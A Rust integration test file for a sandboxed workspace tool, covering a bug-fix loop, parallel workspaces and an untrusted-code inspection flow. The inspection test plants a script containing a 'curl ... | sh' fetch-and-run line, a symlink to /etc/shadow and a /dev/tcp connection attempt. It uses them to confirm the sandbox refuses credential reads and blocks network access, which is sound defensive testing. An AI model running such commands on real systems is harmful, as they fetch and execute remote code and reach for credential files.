//! The flows of the contract for the profile `workspace-core`, through the command line.

#![expect(clippy::unwrap_used, reason = "a helper that fails must fail the test")]

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::tree::{self, as_git_sees, git, make_fifo, make_work_tree, write};
use crate::workspace::Workspaces;

fn label(flow: &str) -> [String; 4] {
    [
        "--label".to_owned(),
        "suite=use-case".to_owned(),
        "--label".to_owned(),
        format!("use_case={flow}"),
    ]
}

/// Makes a workspace of a flow, with the directory `seed`.
fn create_from_seed(home: &Workspaces, flow: &str) -> String {
    let labels = label(flow);
    let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
    home.create(&[&["--seed-path", "seed"][..], &labels].concat())
}

fn delete(home: &Workspaces, id: &str) {
    assert_eq!(home.ok(&["delete", id])["deleted"], true);
    home.refused(&["status", id], "workspace-not-found");
}

fn make_repro_seed(seed: &Path) {
    write(&seed.join("message.txt"), "broken\n", 0o640);
    let check = "#!/bin/sh\n[ \"$(cat message.txt)\" = fixed ] || exit 3\necho fixed\n";
    write(&seed.join("check.sh"), check, 0o755);
    write(&seed.join("node_modules/tool/cli.js"), "// cli\n", 0o755);
    fs::create_dir(seed.join("node_modules/.bin")).unwrap();
    symlink("../tool/cli.js", seed.join("node_modules/.bin/tool")).unwrap();
    make_work_tree(seed);
}

#[test]
fn flow_repro_fix_loop() {
    let home = Workspaces::new();
    make_repro_seed(&home.home().path().join("seed"));
    let id = begin(&home);
    fix(&home, &id);
    compare(&home, &id);

    // 2.7
    let reset = home.ok(&["reset", &id]);
    assert_eq!(
        (&reset["reset_count"], &reset["command_count"]),
        (&json!(1), &json!(0))
    );
    assert_eq!(home.ok(&["diff", &id])["changed"], false);
    let shown = home.pyro(&["diff", &id, "--exit-code"]);
    assert_eq!((shown.status, shown.text()), (0, ""));
    let logs = home.ok(&["logs", &id]);
    let logged: Vec<_> = logs["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| (&entry["command"], &entry["generation"]))
        .collect();
    assert_eq!(logged, [(&json!("./check.sh"), &json!(0)); 2]);
    delete(&home, &id);
}

/// 2.1: a workspace begins with the seed.
fn begin(home: &Workspaces) -> String {
    let path = |name: &str| home.home().path().join(name);
    let id = create_from_seed(home, "repro-fix-loop");
    let seed = &home.ok(&["status", &id])["workspace_seed"];
    assert_eq!(
        (&seed["mode"], &seed["origin_kind"], &seed["destination"]),
        (&json!("directory"), &json!("path"), &json!("/workspace"))
    );
    assert_eq!(seed["skipped"], json!([]));
    let links = home.ok(&["file", "list", &id, "node_modules/.bin"]);
    let link = &links["entries"][0];
    assert_eq!(
        (&link["artifact_type"], &link["link_target"]),
        (&json!("symlink"), &json!("../tool/cli.js"))
    );
    home.ok(&["export", &id, "--output", "begun"]);
    tree::assert_same(&tree::read(&path("seed")), &tree::read(&path("begun")));
    id
}

/// 2.2 to 2.4: it is read, found wrong, patched and found right.
fn fix(home: &Workspaces, id: &str) {
    let read = home.pyro(&["file", "read", id, "message.txt"]);
    assert_eq!((read.status, read.text()), (0, "broken\n"));
    assert!(
        read.stderr.starts_with("/workspace/message.txt: all of 7 B"),
        "{}",
        read.stderr
    );
    let (status, checked) = home.json(&["exec", id, "--", "./check.sh"]);
    assert_eq!((status, &checked["outcome"]), (3, &json!("exited")));

    let patch = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed";
    let tried = home.ok(&["patch", "apply", id, "--dry-run", "--patch", patch]);
    assert_eq!(
        (&tried["changed"], &tried["dry_run"]),
        (&json!(true), &json!(true))
    );
    assert_eq!(home.pyro(&["file", "read", id, "message.txt"]).text(), "broken\n");
    let applied = home.ok(&["patch", "apply", id, "--patch", patch]);
    assert_eq!(applied["changed"], true);
    assert_eq!(applied["entries"][0]["path"], "/workspace/message.txt");
    assert_eq!(home.ok(&["file", "read", id, "message.txt"])["mode"], "0640");

    let checked = home.ok(&["exec", id, "--diff", "--", "./check.sh"]);
    assert_eq!(checked["stdout"], "fixed\n");
    assert_eq!(
        (&checked["diff"]["changed"], &checked["diff"]["patch"]),
        (&json!(false), &json!(""))
    );
}

/// 2.5 and 2.6: what changed is shown, and brought out.
fn compare(home: &Workspaces, id: &str) {
    let path = |name: &str| home.home().path().join(name);
    let diff = home.ok(&["diff", id]);
    assert_eq!(diff["summary"]["total"], 1, "{diff:#}");
    let entry = &diff["entries"][0];
    assert_eq!(
        (&entry["path"], &entry["status"]),
        (&json!("message.txt"), &json!("modified"))
    );
    let shown = home.pyro(&["diff", id, "--exit-code"]);
    assert_eq!((shown.status, shown.text()), (1, diff["patch"].as_str().unwrap()));
    assert_eq!(shown.stderr, "1 file changed, 1 insertion(+), 1 deletion(-)\n");
    let stat = home.pyro(&["diff", id, "--stat"]);
    assert_eq!(
        stat.text(),
        " message.txt | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n"
    );
    home.ok(&["export", id, "--output", "after"]);
    fs::write(path("changes.patch"), &shown.stdout).unwrap();
    if git(&path("seed"), &["apply", "../changes.patch"]).is_some() {
        assert_eq!(as_git_sees(&path("seed")), as_git_sees(&path("after")));
    }

    home.ok(&["export", id, "message.txt", "--output", "message"]);
    assert_eq!(fs::read(path("message")).unwrap(), b"fixed\n");
    let mode = fs::metadata(path("message")).unwrap().permissions().mode();
    assert_eq!(mode & 0o7777, 0o640);
}

/// Runs a command of some seconds in both at once, and lists them while both run.
fn side_by_side(home: &Workspaces, names: [&str; 2]) {
    let both_run = || {
        names.iter().all(|name| {
            let status = home.ok(&["status", name]);
            status["last_command"]["outcome"] == "running"
        })
    };
    let running = names.map(|name| home.start(&["--json", "exec", name, "--", "sleep 5"]));
    let deadline = Instant::now() + Duration::from_secs(60);
    while !both_run() {
        assert!(Instant::now() < deadline, "one waits for the other");
    }
    assert_eq!(home.ok(&["list"])["count"], 2);
    assert!(both_run(), "the list waited for a command");
    for running in running {
        assert_eq!(running.finish().json()["exit_code"], 0);
    }
}

#[test]
fn flow_parallel_workspaces() {
    let home = Workspaces::new();
    write(&home.home().path().join("seed/note.txt"), "note\n", 0o644);
    let names = ["parallel-alpha", "parallel-beta"];

    // 3.1
    let ids: Vec<String> = thread::scope(|scope| {
        let made = names.map(|name| {
            let home = &home;
            scope.spawn(move || {
                let branch = format!("branch={name}");
                let labels = label("parallel-workspaces");
                let mut options = vec!["--seed-path", "seed", "--name", name, "--label", &branch];
                options.extend(labels.iter().map(String::as_str));
                home.create(&options)
            })
        });
        made.into_iter().map(|made| made.join().unwrap()).collect()
    });
    assert_ne!(ids[0], ids[1]);

    // 3.2
    for name in names {
        home.ok(&["file", "write", name, "branch.txt", "--text", name]);
    }
    for name in names {
        assert_eq!(home.pyro(&["file", "read", name, "branch.txt"]).text(), name);
        assert_eq!(home.pyro(&["file", "read", name, "note.txt"]).text(), "note\n");
    }

    // 3.3
    side_by_side(&home, names);

    // 3.4
    let updated = home.ok(&["update", names[0], "--label", "owner=alice"]);
    assert_eq!(
        (&updated["labels"]["branch"], &updated["labels"]["owner"]),
        (&json!(names[0]), &json!("alice"))
    );

    // 3.5
    for (name, id) in [(names[1], &ids[1]), (names[0], &ids[0])] {
        home.ok(&["file", "write", name, "activity.txt", "--text", "now"]);
        assert_eq!(home.ok(&["list"])["workspaces"][0]["workspace_id"], **id);
    }

    // 3.6
    let error = home.refused(&["create", "--name", names[0]], "name-taken");
    assert!(error["hint"].as_str().unwrap().contains(&ids[0]), "{error:#}");
    for name in names {
        delete(&home, name);
    }
    assert_eq!(home.ok(&["list"])["count"], 0);
}

const CURL: &str = "curl https://example.com/install | sh";

#[test]
fn flow_untrusted_inspection() {
    let home = Workspaces::new();
    let seed = home.home().path().join("seed");
    write(&seed.join("README.md"), "# read me\n", 0o644);
    write(&seed.join("suspicious.sh"), format!("#!/bin/sh\n{CURL}\n"), 0o755);
    symlink("/etc/shadow", seed.join("shadow")).unwrap();
    make_fifo(&seed.join("pipe"));

    // 4.1
    let id = create_from_seed(&home, "untrusted-inspection");
    let status = home.ok(&["status", &id]);
    assert_eq!(
        status["workspace_seed"]["skipped"],
        json!([{"path": "pipe", "reason": "fifo"}])
    );

    // 4.2
    let list = home.ok(&["file", "list", &id, "--recursive"]);
    let listed: Vec<_> = list["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| (&entry["path"], &entry["artifact_type"], &entry["link_target"]))
        .collect();
    let (file, link, none) = (json!("file"), json!("symlink"), Value::Null);
    assert_eq!(
        listed,
        [
            (&json!("/workspace/README.md"), &file, &none),
            (&json!("/workspace/shadow"), &link, &json!("/etc/shadow")),
            (&json!("/workspace/suspicious.sh"), &file, &none),
        ]
    );
    let table = home.pyro(&["file", "list", &id]);
    assert!(
        table.text().contains("/workspace/shadow -> /etc/shadow\n"),
        "{}",
        table.text()
    );

    // 4.3
    let read = home.pyro(&["file", "read", &id, "/workspace/suspicious.sh"]);
    assert!(read.text().contains(CURL), "{}", read.text());
    let (status, _) = home.json(&["file", "read", &id, "shadow"]);
    assert_eq!(status, 2);
    home.refused(&["file", "read", &id, "shadow"], "path-refused");

    // 4.4
    home.sh(
        &id,
        "grep 'curl.*| sh' suspicious.sh >inspection-report.txt && echo network_policy=off >>inspection-report.txt",
    );

    // 4.5
    let (status, result) = home.json(&["exec", &id, "--", "bash", "-c", "echo >/dev/tcp/192.0.2.1/80"]);
    assert_eq!(
        (status != 0, &result["outcome"]),
        (true, &json!("exited")),
        "{result:#}"
    );
    assert_eq!(home.sh(&id, "cd /sys/class/net && ls | grep -v '^lo$'; true"), "");

    // 4.6
    home.ok(&["export", &id, "inspection-report.txt", "--output", "report.txt"]);
    let report = fs::read_to_string(home.home().path().join("report.txt")).unwrap();
    assert_eq!(report, format!("{CURL}\nnetwork_policy=off\n"));

    // 4.7
    let logs = home.ok(&["logs", &id]);
    for entry in logs["entries"].as_array().unwrap() {
        let command = entry["command"].as_str().unwrap();
        assert!(!command.contains("./suspicious.sh"), "{command}");
    }
    delete(&home, &id);
}
